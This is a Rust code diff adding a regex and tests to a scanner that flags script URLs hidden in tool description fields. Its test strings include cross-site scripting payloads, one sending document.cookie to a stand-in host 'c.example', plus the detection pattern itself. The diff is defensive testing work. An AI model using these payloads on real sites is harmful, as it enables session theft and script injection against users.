@@ -42,6 +42,17 @@ static ACTIVE_MARKUP: LazyLock<Regex> = LazyLock::new(|| {
     .expect("static regex")
 });
 
+/// A script URL that calls something, wherever it is written
+/// (`javascript:alert(1)`, `javascript:/*x*/fetch(…)`,
+/// `javascript://%0aalert(1)`); the name called is captured, since
+/// `javascript:void(0)` does nothing.
+static SCRIPT_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)\b(?:javascript|vbscript|livescript):\s*(?:/\*.*?\*/\s*|//.*?(?:%0a|%0d|\n)\s*)*([a-z_$][\w$.]*)\s*(?:\(|%28)",
+    )
+    .expect("static regex")
+});
+
 /// Text with numeric and the common named character references decoded, and
 /// tabs and line breaks dropped: what a browser's URL and tag parsers see.
 fn decoded_markup(raw: &str) -> std::borrow::Cow<'_, str> {
@@ -157,7 +168,13 @@ pub(crate) fn check(field: &TextField<'_>, tool: &Tool, hits: &mut Vec<Hit>) {
         ));
     }
 
-    if let Some(m) = ACTIVE_MARKUP.find(&decoded_markup(raw)) {
+    let decoded = decoded_markup(raw);
+    if let Some(m) = ACTIVE_MARKUP.find(&decoded).or_else(|| {
+        SCRIPT_CALL
+            .captures_iter(&decoded)
+            .find(|c| !c[1].eq_ignore_ascii_case("void"))
+            .and_then(|c| c.get(0))
+    }) {
         hits.push(hit(
             "tool-active-markup",
             format!(
@@ -396,6 +413,10 @@ mod tests {
             "Chart. <a href=\"javascript&colon;alert(1)\">x</a>",
             "Title <svg/onload=alert(1)>",
             "Charts. [help](java\tscript:alert(1))",
+            // A script URL in prose, behind a comment, or a line comment ended by an encoded newline.
+            "Link tool with javascript:alert(1) execution",
+            "Opens javascript:/* harmless */fetch('//c.example/'+document.cookie)",
+            "Preview: javascript://%0aalert(document.domain)",
         ] {
             assert_eq!(desc(hidden), ["tool-active-markup"], "{hidden}");
         }
